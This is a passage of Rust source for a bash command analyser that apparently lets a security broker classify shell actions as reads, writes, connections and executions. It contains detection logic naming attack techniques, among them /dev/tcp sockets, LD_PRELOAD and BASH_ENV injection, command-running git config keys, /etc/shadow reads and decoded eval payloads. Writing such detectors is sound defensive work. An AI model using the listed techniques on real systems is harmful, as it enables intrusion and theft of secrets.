//! The walker: a parsed bash program → effects.

use std::collections::{HashMap, HashSet};
use std::panic::{AssertUnwindSafe, catch_unwind};

use brush_parser::ParserOptions;
use brush_parser::ast::{
    self, Command, CommandPrefixOrSuffixItem, CompoundCommand, IoFileRedirectKind,
    IoFileRedirectTarget, IoRedirect, Pipeline,
};
use mandate_types::ProgramClass;

use crate::effect::{NetTarget, ShellEffect, ShellPath};

mod guards;

use crate::kb::{ArgsRole, FlagRole, KnowledgeBase, ProgramSpec};
use crate::words::{Expanded, VarLookup, VarValue, expand_word, parse_pieces};
pub use guards::MAX_ANALYSED;

/// Deepest nesting of `bash -c`, `eval` and substitutions followed.
pub const MAX_DEPTH: usize = 12;
/// Most effects reported for one command line.
pub const MAX_EFFECTS: usize = 4096;

/// Where the current directory is during the walk.
#[derive(Debug, Clone, PartialEq, Eq)]
enum Cwd {
    /// The action's cwd, or a known directory relative to it (or absolute).
    Known(Option<String>),
    /// Changed to something we cannot know.
    Unknown,
}

/// Shell state that flows through a script.
#[derive(Debug, Clone)]
struct State {
    cwd: Cwd,
    vars: HashMap<String, VarValue>,
    functions: HashSet<String>,
}

impl State {
    /// A new shell in `cwd`, with no variables or functions set.
    fn at(cwd: Cwd) -> Self {
        Self {
            cwd,
            vars: HashMap::new(),
            functions: HashSet::new(),
        }
    }
}

impl VarLookup for State {
    fn lookup(&self, name: &str) -> Option<VarValue> {
        self.vars.get(name).cloned()
    }
}

/// What feeds a command's standard input.
#[derive(Debug, Clone, Default)]
enum Stdin {
    /// The terminal (or nothing we know of).
    #[default]
    Tty,
    /// A pipe from earlier stages, which read these files.
    Pipe(Vec<ShellPath>),
    /// A file.
    File(ShellPath),
    /// Inline text (here-document or here-string).
    Text(String),
    /// A pipe from a stage that decodes data (`base64 -d`, `xxd -r`, ...).
    Decoded,
}

impl Stdin {
    fn data(&self) -> Vec<ShellPath> {
        match self {
            Stdin::Pipe(p) => p.clone(),
            Stdin::File(f) => vec![f.clone()],
            _ => Vec::new(),
        }
    }
    fn is_data(&self) -> bool {
        !matches!(self, Stdin::Tty)
    }
}

/// Analyses shell command lines into effects.
#[derive(Clone)]
pub struct ShellAnalyzer {
    kb: KnowledgeBase,
    options: ParserOptions,
}

impl std::fmt::Debug for ShellAnalyzer {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("ShellAnalyzer")
            .field("programs", &self.kb.len())
            .finish()
    }
}

impl Default for ShellAnalyzer {
    fn default() -> Self {
        Self::new(KnowledgeBase::builtin())
    }
}

/// The result of analysing one command line.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct ShellAnalysis {
    /// Effects in the order found, without duplicates.
    pub effects: Vec<ShellEffect>,
}

impl ShellAnalysis {
    /// Whether any part could not be analysed.
    pub fn is_unparseable(&self) -> bool {
        self.effects
            .iter()
            .any(|e| matches!(e, ShellEffect::Unparseable { .. }))
    }
}

impl ShellAnalyzer {
    /// An analyser over a knowledge base.
    pub fn new(kb: KnowledgeBase) -> Self {
        Self {
            kb,
            options: ParserOptions::default(),
        }
    }

    /// The knowledge base in use.
    pub fn knowledge_base(&self) -> &KnowledgeBase {
        &self.kb
    }

    /// Analyses a command line as `bash -c` would run it. Never panics; input that cannot
    /// be analysed yields an [`ShellEffect::Unparseable`] effect.
    pub fn analyze(&self, command: &str) -> ShellAnalysis {
        // Defence in depth: a bug in the walker must not take the broker down or let an
        // action through; it makes the command unparseable.
        match catch_unwind(AssertUnwindSafe(|| self.walk(command))) {
            Ok(a) => a,
            Err(_) => ShellAnalysis {
                effects: vec![ShellEffect::Unparseable {
                    reason: "the analyser failed on this command".into(),
                }],
            },
        }
    }

    fn walk(&self, command: &str) -> ShellAnalysis {
        let mut w = Walker::new(&self.kb, &self.options, 0);
        w.script(command, &mut State::at(Cwd::Known(None)), &Stdin::Tty);
        ShellAnalysis { effects: w.effects }
    }
}

struct Walker<'a> {
    kb: &'a KnowledgeBase,
    options: &'a ParserOptions,
    effects: Vec<ShellEffect>,
    seen: HashSet<ShellEffect>,
    depth: usize,
}

impl<'a> Walker<'a> {
    /// A walker with nothing found yet, `depth` levels into nested commands.
    fn new(kb: &'a KnowledgeBase, options: &'a ParserOptions, depth: usize) -> Self {
        Self {
            kb,
            options,
            effects: Vec::new(),
            seen: HashSet::new(),
            depth,
        }
    }
}

/// Arguments of one invocation split by a spec: positionals, flag values, switches.
#[derive(Default)]
struct Parsed {
    positional: Vec<Expanded>,
    flags: Vec<(String, FlagRole, Expanded)>,
    switches: Vec<String>,
    /// Short-option letters seen (for `bash -c`, `nc -l`).
    letters: HashSet<char>,
}

impl Parsed {
    fn has(&self, s: &str) -> bool {
        self.switches.iter().any(|x| x == s)
    }
}

fn basename(s: &str) -> &str {
    s.rsplit('/').next().unwrap_or(s)
}

fn is_dev_sink(p: &str) -> bool {
    matches!(
        p,
        "/dev/null"
            | "/dev/stdout"
            | "/dev/stderr"
            | "/dev/stdin"
            | "/dev/tty"
            | "/dev/zero"
            | "/dev/random"
            | "/dev/urandom"
    ) || p.starts_with("/dev/fd/")
        || p.starts_with("/proc/self/fd/")
}

/// `/dev/tcp/host/port` and `/dev/udp/host/port`, which bash turns into sockets.
fn dev_socket(p: &str) -> Option<(String, Option<u16>)> {
    let rest = p
        .strip_prefix("/dev/tcp/")
        .or_else(|| p.strip_prefix("/dev/udp/"))?;
    let (host, port) = rest.split_once('/').unwrap_or((rest, ""));
    Some((host.to_owned(), port.parse().ok()))
}

/// `[user@]host:path` as scp and rsync write remote paths.
fn remote_spec(s: &str) -> Option<String> {
    if s.starts_with('/') || s.starts_with('.') || s.starts_with('~') {
        return None;
    }
    if let Some(rest) = s.strip_prefix("rsync://") {
        return Some(rest.split(['/', ':']).next().unwrap_or(rest).to_owned());
    }
    let (head, _) = s.split_once(':')?;
    if head.is_empty() || head.contains('/') {
        return None;
    }
    let host = head.rsplit('@').next().unwrap_or(head);
    Some(host.to_owned())
}

/// Git config keys whose value is a command git will run.
const GIT_COMMAND_KEYS: &[&str] = &[
    "core.sshcommand",
    "core.pager",
    "core.editor",
    "core.hookspath",
    "core.fsmonitor",
    "core.gitproxy",
    "core.askpass",
    "credential.helper",
    "diff.external",
    "sequence.editor",
    "uploadpack.packobjectshook",
    "protocol.ext.allow",
    "gpg.program",
    "merge.tool",
    "diff.tool",
    "remote.origin.uploadpack",
    "remote.origin.receivepack",
];

impl Walker<'_> {
    fn emit(&mut self, e: ShellEffect) {
        if self.effects.len() >= MAX_EFFECTS {
            let cap = ShellEffect::Unparseable {
                reason: format!(
                    "more than {MAX_EFFECTS} effects; the command is too large to analyse"
                ),
            };
            if self.seen.insert(cap.clone()) {
                self.effects.push(cap);
            }
            return;
        }
        if self.seen.insert(e.clone()) {
            self.effects.push(e);
        }
    }

    fn obfuscated(&mut self, reason: impl Into<String>) {
        self.emit(ShellEffect::Obfuscated {
            reason: reason.into(),
        });
    }

    /// Inline code for an interpreter: inspected for processes, files and network.
    fn code(&mut self, program: &str, code: &str, st: &mut State) {
        use crate::code::{Finding, Lang, inspect};
        let lang = Lang::of_program(program);
        let mut reads = Vec::new();
        let findings = inspect(lang, code);
        for f in &findings {
            let p = |w: &Walker<'_>, text: &str| {
                w.path(
                    st,
                    &Expanded {
                        text: text.to_owned(),
                        ..Default::default()
                    },
                )
            };
            match f {
                Finding::Shell(cmd) => {
                    let mut sub = st.clone();
                    self.script(cmd, &mut sub, &Stdin::Tty);
                }
                Finding::OpaqueProcess(r) | Finding::LoadsLibrary(r) => self.unparseable(r.clone()),
                Finding::Obfuscated(r) => self.obfuscated(r.clone()),
                Finding::Listen => {
                    self.unparseable(format!("{program} code opens a listening socket"))
                }
                Finding::Read(path) => {
                    let sp = p(self, path);
                    reads.push(sp.clone());
                    self.emit(ShellEffect::Read(sp));
                }
                Finding::Write(path) => {
                    let sp = p(self, path);
                    self.emit(ShellEffect::Write(sp));
                }
                Finding::Delete(path) => {
                    let sp = p(self, path);
                    self.emit(ShellEffect::Delete(sp));
                }
                Finding::Network { .. } => {}
            }
        }
        for f in findings {
            if let Finding::Network { targets, sends } = f {
                let data_from = if sends { reads.clone() } else { Vec::new() };
                let sends = sends || !data_from.is_empty();
                if targets.is_empty() {
                    self.emit(ShellEffect::Connect {
                        target: NetTarget::Dynamic {
                            text: format!("{program} code"),
                        },
                        sends,
                        data_from: data_from.clone(),
                    });
                }
                for t in targets {
                    let target = if t.contains("://") {
                        NetTarget::Url { url: t }
                    } else {
                        let (h, port) = t
                            .rsplit_once(':')
                            .map_or((t.as_str(), None), |(h, p)| (h, p.parse().ok()));
                        NetTarget::Host {
                            host: h.to_owned(),
                            port,
                        }
                    };
                    self.emit(ShellEffect::Connect {
                        target,
                        sends,
                        data_from: data_from.clone(),
                    });
                }
            }
        }
    }

    /// A connection to each URL (computed ones become dynamic targets).
    fn connect_urls(&mut self, urls: &[Expanded], sends: bool, data_from: &[ShellPath]) {
        for u in urls {
            let target = if u.dynamic {
                NetTarget::Dynamic {
                    text: u.text.clone(),
                }
            } else {
                NetTarget::Url {
                    url: u.text.clone(),
                }
            };
            self.emit(ShellEffect::Connect {
                target,
                sends,
                data_from: data_from.to_vec(),
            });
        }
    }

    fn unparseable(&mut self, reason: impl Into<String>) {
        self.emit(ShellEffect::Unparseable {
            reason: reason.into(),
        });
    }

    /// Parses and walks a script (a command line, a `-c` string, an `eval`).
    fn script(&mut self, text: &str, st: &mut State, stdin: &Stdin) {
        if self.depth >= MAX_DEPTH {
            return self.unparseable("commands nested too deeply (bash -c, eval, substitutions)");
        }
        let program = match guards::parse_program(text, self.options) {
            Ok(p) => p,
            Err(reason) => return self.unparseable(reason),
        };
        self.depth += 1;
        for cc in &program.complete_commands {
            self.compound_list(cc, st, stdin);
        }
        self.depth -= 1;
    }

    fn compound_list(&mut self, list: &ast::CompoundList, st: &mut State, stdin: &Stdin) {
        for item in &list.0 {
            let ast::CompoundListItem(and_or, _sep) = item;
            self.pipeline(&and_or.first, st, stdin);
            for next in &and_or.additional {
                match next {
                    ast::AndOr::And(p) | ast::AndOr::Or(p) => self.pipeline(p, st, stdin),
                }
            }
        }
    }

    fn pipeline(&mut self, p: &Pipeline, st: &mut State, stdin: &Stdin) {
        if p.seq.len() == 1 {
            return self.command(&p.seq[0], st, stdin);
        }
        let mut upstream: Vec<ShellPath> = stdin.data();
        let mut decoded = false;
        for (i, cmd) in p.seq.iter().enumerate() {
            let input = if i == 0 {
                stdin.clone()
            } else if decoded {
                Stdin::Decoded
            } else {
                Stdin::Pipe(upstream.clone())
            };
            decoded |= is_decoder(cmd);
            let start = self.effects.len();
            // Each stage of a pipeline runs in a subshell.
            let mut sub = st.clone();
            self.command(cmd, &mut sub, &input);
            for e in &self.effects[start..] {
                if let ShellEffect::Read(p) = e {
                    upstream.push(p.clone());
                }
            }
        }
    }

    fn command(&mut self, cmd: &Command, st: &mut State, stdin: &Stdin) {
        match cmd {
            Command::Simple(sc) => self.simple(sc, st, stdin),
            Command::Compound(cc, redirects) => {
                let stdin = match redirects {
                    Some(r) => self.redirects(&r.0, st, stdin),
                    None => stdin.clone(),
                };
                self.compound(cc, st, &stdin);
            }
            Command::Function(f) => {
                st.functions.insert(f.fname.value.clone());
                let ast::FunctionBody(body, redirects) = &f.body;
                let mut sub = st.clone();
                let stdin = match redirects {
                    Some(r) => self.redirects(&r.0, &mut sub, stdin),
                    None => stdin.clone(),
                };
                self.compound(body, &mut sub, &stdin);
            }
            Command::ExtendedTest(t, redirects) => {
                if let Some(r) = redirects {
                    self.redirects(&r.0, st, stdin);
                }
                self.extended_test(&t.expr, st);
            }
        }
    }

    fn extended_test(&mut self, e: &ast::ExtendedTestExpr, st: &mut State) {
        use ast::ExtendedTestExpr as E;
        match e {
            E::And(a, b) | E::Or(a, b) => {
                self.extended_test(a, st);
                self.extended_test(b, st);
            }
            E::Not(a) | E::Parenthesized(a) => self.extended_test(a, st),
            E::UnaryTest(_, w) => {
                self.words(std::slice::from_ref(w), st, false);
            }
            E::BinaryTest(_, a, b) => {
                self.words(&[a.clone(), b.clone()], st, false);
            }
        }
    }

    fn compound(&mut self, cc: &CompoundCommand, st: &mut State, stdin: &Stdin) {
        match cc {
            CompoundCommand::BraceGroup(g) => self.compound_list(&g.list, st, stdin),
            CompoundCommand::Subshell(s) => {
                let mut sub = st.clone();
                self.compound_list(&s.list, &mut sub, stdin);
            }
            CompoundCommand::ForClause(f) => {
                if let Some(values) = &f.values {
                    self.words(values, st, true);
                }
                st.vars.insert(f.variable_name.clone(), VarValue::Dynamic);
                self.compound_list(&f.body.list, st, stdin);
            }
            CompoundCommand::ArithmeticForClause(f) => self.compound_list(&f.body.list, st, stdin),
            CompoundCommand::CaseClause(c) => {
                self.words(std::slice::from_ref(&c.value), st, false);
                for item in &c.cases {
                    if let Some(list) = &item.cmd {
                        self.compound_list(list, st, stdin);
                    }
                }
            }
            CompoundCommand::IfClause(i) => {
                self.compound_list(&i.condition, st, stdin);
                self.compound_list(&i.then, st, stdin);
                for e in i.elses.iter().flatten() {
                    if let Some(c) = &e.condition {
                        self.compound_list(c, st, stdin);
                    }
                    self.compound_list(&e.body, st, stdin);
                }
            }
            CompoundCommand::WhileClause(w) | CompoundCommand::UntilClause(w) => {
                let ast::WhileOrUntilClauseCommand(cond, body, _) = w;
                self.compound_list(cond, st, stdin);
                self.compound_list(&body.list, st, stdin);
            }
            CompoundCommand::Arithmetic(_) => {}
            CompoundCommand::Coprocess(c) => {
                let mut sub = st.clone();
                self.command(&c.body, &mut sub, stdin);
            }
        }
    }

    /// Expands words, walking their command substitutions; returns the expanded words
    /// and the files read by those substitutions.
    fn words(
        &mut self,
        words: &[ast::Word],
        st: &mut State,
        split: bool,
    ) -> (Vec<Expanded>, Vec<ShellPath>) {
        let mut out = Vec::new();
        let mut reads = Vec::new();
        for w in words {
            match expand_word(&w.value, self.options, st, split) {
                Ok(list) => {
                    if let Some(first) = list.first() {
                        for sub in first.substitutions.clone() {
                            reads.extend(self.substitution(&sub, st));
                        }
                    }
                    out.extend(list);
                }
                Err(e) => {
                    self.unparseable(format!("cannot parse the word {:?}: {e}", w.value));
                    out.push(Expanded {
                        text: w.value.clone(),
                        dynamic: true,
                        ..Default::default()
                    });
                }
            }
        }
        (out, reads)
    }

    /// Walks a command substitution in a subshell; returns the files it read.
    fn substitution(&mut self, text: &str, st: &State) -> Vec<ShellPath> {
        let start = self.effects.len();
        let mut sub = st.clone();
        self.script(text, &mut sub, &Stdin::Tty);
        self.effects[start..]
            .iter()
            .filter_map(|e| match e {
                ShellEffect::Read(p) => Some(p.clone()),
                _ => None,
            })
            .collect()
    }

    fn path(&self, st: &State, e: &Expanded) -> ShellPath {
        self.path_in(st, e, None)
    }

    fn path_in(&self, st: &State, e: &Expanded, dir: Option<&ShellPath>) -> ShellPath {
        let (dir, unknown_dir) = match (dir, &st.cwd) {
            (Some(d), _) => (Some(join_dir(d)), d.unknown_dir || d.dynamic),
            (None, Cwd::Known(d)) => (d.clone(), false),
            (None, Cwd::Unknown) => (None, true),
        };
        ShellPath {
            dir,
            path: e.text.clone(),
            dynamic: e.dynamic,
            glob: e.glob,
            unknown_dir,
        }
    }

    /// Applies redirections; returns the resulting stdin.
    fn redirects(&mut self, items: &[IoRedirect], st: &mut State, stdin: &Stdin) -> Stdin {
        let mut input = stdin.clone();
        for r in items {
            match r {
                IoRedirect::File(fd, kind, target) => {
                    let word = match target {
                        IoFileRedirectTarget::Filename(w) => w,
                        IoFileRedirectTarget::Duplicate(w) => {
                            let t = w.value.trim();
                            if t == "-" || t.parse::<i32>().is_ok() {
                                continue;
                            }
                            w
                        }
                        IoFileRedirectTarget::Fd(_) => continue,
                        IoFileRedirectTarget::ProcessSubstitution(_, sub) => {
                            let mut s = st.clone();
                            self.compound_list(&sub.list, &mut s, &Stdin::Tty);
                            continue;
                        }
                    };
                    let (exp, _) = self.words(std::slice::from_ref(word), st, false);
                    let Some(e) = exp.into_iter().next() else {
                        continue;
                    };
                    if is_dev_sink(&e.text) {
                        continue;
                    }
                    if let Some((host, port)) = dev_socket(&e.text) {
                        let sends = !matches!(kind, IoFileRedirectKind::Read);
                        self.emit(ShellEffect::Connect {
                            target: NetTarget::Host { host, port },
                            sends,
                            data_from: if sends { input.data() } else { Vec::new() },
                        });
                        continue;
                    }
                    let p = self.path(st, &e);
                    let reads_in = matches!(
                        kind,
                        IoFileRedirectKind::Read | IoFileRedirectKind::ReadAndWrite
                    ) || (matches!(kind, IoFileRedirectKind::DuplicateInput));
                    let writes = matches!(
                        kind,
                        IoFileRedirectKind::Write
                            | IoFileRedirectKind::Append
                            | IoFileRedirectKind::Clobber
                            | IoFileRedirectKind::ReadAndWrite
                            | IoFileRedirectKind::DuplicateOutput
                    );
                    if reads_in {
                        self.emit(ShellEffect::Read(p.clone()));
                        if fd.is_none_or(|f| f == 0) {
                            input = Stdin::File(p.clone());
                        }
                    }
                    if writes {
                        self.emit(ShellEffect::Write(p));
                    }
                }
                IoRedirect::OutputAndError(w, _append) => {
                    let (exp, _) = self.words(std::slice::from_ref(w), st, false);
                    if let Some(e) = exp.into_iter().next()
                        && !is_dev_sink(&e.text)
                    {
                        let p = self.path(st, &e);
                        self.emit(ShellEffect::Write(p));
                    }
                }
                IoRedirect::HereDocument(_fd, doc) => {
                    let body = &doc.doc.value;
                    if doc.requires_expansion {
                        // The body's `$(…)` and backticks run when the here-document is
                        // read: a body we cannot parse is never passed over silently.
                        match parse_pieces(body, |b| {
                            brush_parser::word::parse_heredoc(b, self.options)
                        }) {
                            Ok(pieces) => {
                                for p in pieces {
                                    if let brush_parser::word::WordPiece::CommandSubstitution(s)
                                    | brush_parser::word::WordPiece::BackquotedCommandSubstitution(
                                        s,
                                    ) = p.piece
                                    {
                                        self.substitution(&s, st);
                                    }
                                }
                            }
                            Err(e) => {
                                self.unparseable(format!("cannot parse a here-document: {e}"));
                            }
                        }
                    }
                    input = Stdin::Text(body.clone());
                }
                IoRedirect::HereString(_fd, w) => {
                    let (exp, _) = self.words(std::slice::from_ref(w), st, false);
                    let text = exp.into_iter().next().map(|e| e.text).unwrap_or_default();
                    input = Stdin::Text(text);
                }
            }
        }
        input
    }

    fn simple(&mut self, sc: &ast::SimpleCommand, st: &mut State, stdin: &Stdin) {
        let mut redirects = Vec::new();
        let mut assignments = Vec::new();
        let mut words: Vec<ast::Word> = Vec::new();
        let mut items: Vec<&CommandPrefixOrSuffixItem> = Vec::new();
        if let Some(p) = &sc.prefix {
            items.extend(p.0.iter());
        }
        let name_index = items.len();
        if let Some(w) = &sc.word_or_name {
            words.push(w.clone());
        }
        if let Some(s) = &sc.suffix {
            items.extend(s.0.iter());
        }
        for (i, item) in items.iter().enumerate() {
            match item {
                CommandPrefixOrSuffixItem::IoRedirect(r) => redirects.push(r.clone()),
                CommandPrefixOrSuffixItem::Word(w) => words.push(w.clone()),
                CommandPrefixOrSuffixItem::AssignmentWord(a, w) => {
                    if i < name_index {
                        assignments.push(a.clone());
                    } else {
                        // `export X=1` style: an argument.
                        words.push(w.clone());
                    }
                }
                CommandPrefixOrSuffixItem::ProcessSubstitution(_, sub) => {
                    let mut s = st.clone();
                    self.compound_list(&sub.list, &mut s, &Stdin::Tty);
                    words.push(ast::Word::new("/dev/fd/63"));
                }
            }
        }
        let input = self.redirects(&redirects, st, stdin);
        let mut assigned = Vec::new();
        for a in &assignments {
            let ast::AssignmentName::VariableName(name) = &a.name else {
                continue;
            };
            if name == "IFS" {
                self.obfuscated("IFS is reassigned, which changes how words split");
            }
            let value = match &a.value {
                ast::AssignmentValue::Scalar(w) => {
                    let (exp, _) = self.words(std::slice::from_ref(w), st, false);
                    match exp.into_iter().next() {
                        Some(e) if !e.dynamic => VarValue::Static(e.text),
                        _ => VarValue::Dynamic,
                    }
                }
                ast::AssignmentValue::Array(items) => {
                    let ws: Vec<ast::Word> = items.iter().map(|(_, w)| w.clone()).collect();
                    self.words(&ws, st, true);
                    VarValue::Dynamic
                }
            };
            assigned.push((name.clone(), value));
        }
        let (argv, subst_reads) = self.words(&words, st, true);
        if argv.is_empty() {
            for (k, v) in assigned {
                st.vars.insert(k, v);
            }
            return;
        }
        // Assignments before a command only affect that command's environment.
        let mut scoped = st.clone();
        for (k, v) in &assigned {
            scoped.vars.insert(k.clone(), v.clone());
        }
        let env: Vec<(String, VarValue)> = assigned;
        self.invoke(&argv, &env, &mut scoped, &input, &subst_reads, None);
        // Builtins that change the shell's state apply to the real state.
        st.cwd = scoped.cwd.clone();
        for (k, v) in scoped.vars {
            if !env.iter().any(|(e, _)| *e == k) {
                st.vars.insert(k, v);
            }
        }
        st.functions.extend(scoped.functions);
    }

    /// Runs one command: `argv[0]` with its arguments.
    fn invoke(
        &mut self,
        argv: &[Expanded],
        env: &[(String, VarValue)],
        st: &mut State,
        stdin: &Stdin,
        subst_reads: &[ShellPath],
        dir: Option<&ShellPath>,
    ) {
        let Some(first) = argv.first() else { return };
        if first.escaped {
            self.obfuscated(format!(
                "the program name {:?} is hidden in escape sequences",
                first.text
            ));
        }
        if first.dynamic && first.text.contains("${") {
            return self.obfuscated(format!(
                "the program name {:?} is taken from a variable's expansion",
                first.text
            ));
        }
        if first.dynamic {
            return self.unparseable(format!(
                "the program name {:?} is computed at run time, so what runs cannot be known",
                first.text
            ));
        }
        for (k, v) in env {
            if matches!(
                k.as_str(),
                "LD_PRELOAD" | "LD_LIBRARY_PATH" | "LD_AUDIT" | "DYLD_INSERT_LIBRARIES"
            ) {
                self.unparseable(format!("{k} loads arbitrary code into {}", first.text));
            }
            if matches!(k.as_str(), "BASH_ENV" | "ENV" | "PROMPT_COMMAND") {
                self.unparseable(format!("{k} makes {} run another command", first.text));
                continue;
            }
            let runs_command = k.ends_with("PAGER")
                || k.ends_with("EDITOR")
                || k.ends_with("_COMMAND")
                || matches!(
                    k.as_str(),
                    "GIT_SSH" | "GIT_EXTERNAL_DIFF" | "GIT_ASKPASS" | "VISUAL"
                )
                || k.ends_with("_CMD")
                || matches!(k.as_str(), "LESSOPEN" | "LESSCLOSE" | "BROWSER");
            if runs_command {
                match v {
                    VarValue::Static(cmd) => {
                        let mut sub = st.clone();
                        let cmd = cmd.trim_start_matches(['|', '-']).to_owned();
                        self.script(&cmd, &mut sub, &Stdin::Tty);
                    }
                    VarValue::Dynamic => self.unparseable(format!(
                        "{k} makes {} run a command computed at run time",
                        first.text
                    )),
                }
            }
        }
        if st.vars.contains_key("IFS") {
            self.unparseable("words split on a custom IFS after it was reassigned");
        }
        let name = basename(&first.text).to_owned();
        let args = &argv[1..];
        if st.functions.contains(&first.text) {
            return;
        }
        if self.builtin(&name, args, st, stdin) {
            return;
        }
        if first.text.contains('/') {
            // A relative program path runs a file of the repository or cwd.
            let p = self.path_in(st, first, dir);
            self.emit(ShellEffect::Read(p));
        }
        // Options whose value is a command the program runs (`--password-command=...`).
        for a in args {
            if let Some((flag, value)) = a.text.strip_prefix("--").and_then(|t| t.split_once('='))
                && (flag.ends_with("-command")
                    || flag.ends_with("-cmd")
                    || flag.ends_with("-script")
                    || flag == "exec")
            {
                if a.dynamic {
                    self.unparseable(format!(
                        "{name} --{flag} runs a command computed at run time"
                    ));
                } else {
                    let mut sub = st.clone();
                    self.script(value, &mut sub, &Stdin::Tty);
                }
            }
        }
        let kb: &KnowledgeBase = self.kb;
        let Some(spec) = kb.get(&name) else {
            self.emit(ShellEffect::Exec {
                program: name,
                class: ProgramClass::Unknown,
            });
            // Unknown programs: treat plain arguments as files they may read.
            for a in args
                .iter()
                .filter(|a| !a.text.starts_with('-') && !a.text.is_empty())
            {
                let p = self.path_in(st, a, dir);
                self.emit(ShellEffect::Read(p));
            }
            return;
        };
        self.emit(ShellEffect::Exec {
            program: name.clone(),
            class: spec.class,
        });
        if spec.privilege {
            self.emit(ShellEffect::Privilege {
                program: name.clone(),
            });
        }
        if spec.listen {
            self.unparseable(format!("{name} listens for connections"));
        }
        if name == "getent" {
            for db in args
                .iter()
                .filter(|a| matches!(a.text.as_str(), "shadow" | "gshadow" | "passwd" | "group"))
            {
                let p = self.path(
                    st,
                    &Expanded {
                        text: format!("/etc/{}", db.text),
                        ..Default::default()
                    },
                );
                self.emit(ShellEffect::Read(p));
            }
        }
        if !spec.subcommands.is_empty() && spec.args != ArgsRole::Git {
            let (global, consumed) = self.parse_args(spec, args, true);
            if let Some(sub) = global
                .positional
                .first()
                .and_then(|p| spec.subcommands.get(&p.text))
            {
                if sub.listen {
                    self.unparseable(format!(
                        "{name} {} listens for connections",
                        global.positional[0].text
                    ));
                }
                return self.run_spec(&name, sub, &args[consumed..], st, stdin, subst_reads, dir);
            }
        }
        self.run_spec(&name, spec, args, st, stdin, subst_reads, dir);
    }

    /// Shell builtins that change state or run other code. Returns whether handled.
    fn builtin(&mut self, name: &str, args: &[Expanded], st: &mut State, stdin: &Stdin) -> bool {
        match name {
            "cd" | "pushd" => {
                let target = args
                    .iter()
                    .find(|a| !a.text.starts_with('-') || a.text == "-");
                st.cwd = match target {
                    None => Cwd::Known(Some("~".into())),
                    Some(t) if t.dynamic || t.text == "-" => Cwd::Unknown,
                    Some(t) => match &st.cwd {
                        Cwd::Unknown if !t.text.starts_with('/') && !t.text.starts_with('~') => {
                            Cwd::Unknown
                        }
                        Cwd::Known(Some(d))
                            if !t.text.starts_with('/') && !t.text.starts_with('~') =>
                        {
                            Cwd::Known(Some(format!("{d}/{}", t.text)))
                        }
                        _ => Cwd::Known(Some(t.text.clone())),
                    },
                };
                true
            }
            "popd" => {
                st.cwd = Cwd::Unknown;
                true
            }
            "export" | "declare" | "typeset" | "local" | "readonly" => {
                for a in args.iter().filter(|a| !a.text.starts_with('-')) {
                    if let Some((k, v)) = a.text.split_once('=') {
                        let val = if a.dynamic {
                            VarValue::Dynamic
                        } else {
                            VarValue::Static(v.to_owned())
                        };
                        st.vars.insert(k.to_owned(), val);
                    }
                }
                true
            }
            "unset" => {
                for a in args {
                    st.vars.remove(&a.text);
                }
                true
            }
            "eval" => {
                if args
                    .iter()
                    .any(|a| a.substitutions.iter().any(|s| decodes(s)))
                {
                    self.obfuscated("eval runs a payload decoded at run time");
                } else if args.iter().any(|a| a.dynamic) {
                    self.unparseable("eval runs text computed at run time");
                } else {
                    let text = args
                        .iter()
                        .map(|a| a.text.as_str())
                        .collect::<Vec<_>>()
                        .join(" ");
                    self.script(&text, st, stdin);
                }
                true
            }
            "source" | "." => {
                self.emit(ShellEffect::Exec {
                    program: name.to_owned(),
                    class: ProgramClass::Interpreter,
                });
                if let Some(a) = args.first() {
                    let p = self.path(st, a);
                    self.emit(ShellEffect::Read(p));
                }
                true
            }
            "enable" => {
                if args.iter().any(|a| a.text == "-f") {
                    self.unparseable("enable -f loads a shared library into the shell");
                }
                true
            }
            "alias" => {
                // An alias defined here could rename any later command.
                if args.iter().any(|a| a.text.contains('=')) {
                    self.unparseable(
                        "alias redefines commands; what later names run cannot be known",
                    );
                }
                true
            }
            _ => false,
        }
    }

    /// Splits `args` by the spec's flags, getopt style.
    fn parse_args(
        &self,
        spec: &ProgramSpec,
        args: &[Expanded],
        stop_at_positional: bool,
    ) -> (Parsed, usize) {
        let mut out = Parsed::default();
        let mut i = 0;
        let mut only_positional = false;
        while i < args.len() {
            let a = &args[i];
            let t = a.text.as_str();
            if only_positional
                || t == "-"
                || !t.starts_with('-')
                || a.dynamic && !t.starts_with('-')
            {
                out.positional.push(a.clone());
                i += 1;
                if stop_at_positional {
                    return (out, i.min(args.len()));
                }
                continue;
            }
            if t == "--" {
                only_positional = true;
                i += 1;
                if stop_at_positional {
                    return (out, i);
                }
                continue;
            }
            if let Some(long) = t.strip_prefix("--") {
                let (name, attached) = match long.split_once('=') {
                    Some((n, v)) => (format!("--{n}"), Some(v.to_owned())),
                    None => (t.to_owned(), None),
                };
                if let Some(role) = spec.flag_role(&name) {
                    let value = match attached {
                        Some(v) => Some(Expanded {
                            text: v,
                            ..a.clone()
                        }),
                        None => {
                            i += 1;
                            args.get(i).cloned()
                        }
                    };
                    if let Some(v) = value {
                        out.flags.push((name, role, v));
                    }
                } else {
                    out.switches.push(name);
                }
                i += 1;
                continue;
            }
            // Single-dash long options (`openssl -engine`, `find -name`) as a whole token.
            if t.len() > 2
                && let Some(role) = spec.flag_role(t)
            {
                i += 1;
                if let Some(v) = args.get(i) {
                    out.flags.push((t.to_owned(), role, v.clone()));
                }
                i += 1;
                continue;
            }
            // A cluster of short options: -abc, -n5, -ofile.
            let body = &t[1..];
            let mut consumed_next = false;
            for (pos, c) in body.char_indices() {
                let flag = format!("-{c}");
                out.letters.insert(c);
                if spec.attached_value.contains(&flag) {
                    out.switches.push(flag);
                    break;
                }
                if let Some(role) = spec.flag_role(&flag) {
                    let rest = &body[pos + c.len_utf8()..];
                    let value = if !rest.is_empty() {
                        Some(Expanded {
                            text: rest.to_owned(),
                            ..a.clone()
                        })
                    } else {
                        consumed_next = true;
                        args.get(i + 1).cloned()
                    };
                    if let Some(v) = value {
                        out.flags.push((flag, role, v));
                    }
                    break;
                }
                out.switches.push(flag);
            }
            i += if consumed_next { 2 } else { 1 };
        }
        (out, i.min(args.len()))
    }

    #[allow(clippy::too_many_arguments)]
    fn run_spec(
        &mut self,
        name: &str,
        spec: &ProgramSpec,
        args: &[Expanded],
        st: &mut State,
        stdin: &Stdin,
        subst_reads: &[ShellPath],
        dir: Option<&ShellPath>,
    ) {
        match spec.args {
            ArgsRole::Command | ArgsRole::Env | ArgsRole::Xargs => {
                return self.wrapper(name, spec, args, st, stdin, subst_reads, dir);
            }
            ArgsRole::Git => return self.git(spec, args, st, stdin, dir),
            ArgsRole::Ssh => return self.ssh(spec, args, st, stdin, subst_reads, dir),
